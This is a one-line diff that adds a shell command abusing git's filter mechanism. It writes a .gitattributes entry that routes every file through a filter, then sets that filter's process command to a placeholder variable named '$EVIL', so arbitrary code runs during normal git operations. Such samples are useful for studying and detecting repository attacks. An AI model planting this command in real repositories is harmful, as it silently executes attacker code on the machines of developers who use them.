@@ -1,0 +1,1 @@
+echo '* filter=x' > .gitattributes && git config filter.x.process "$EVIL"
